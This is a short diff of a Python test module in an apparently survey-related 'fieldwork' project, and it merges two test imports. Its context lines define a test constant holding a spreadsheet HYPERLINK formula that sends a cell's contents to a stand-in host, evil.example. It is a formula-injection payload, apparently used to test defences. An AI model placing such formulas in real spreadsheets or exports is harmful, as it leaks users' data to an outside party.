@@ -39,8 +39,7 @@ from fieldwork.responses.filters import Filter
 from fieldwork.responses.models import APPROVED, Response
 from fieldwork.shadow import events, submission
 from fieldwork.shadow.models import TYPED, ShadowEvent, ShadowTest
-from tests.shadow.conftest import person
-from tests.shadow.plans import START, tap
+from tests.shadow.plans import START, person, tap
 
 STORING = Storing(current=None, fallback_segment="young")
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
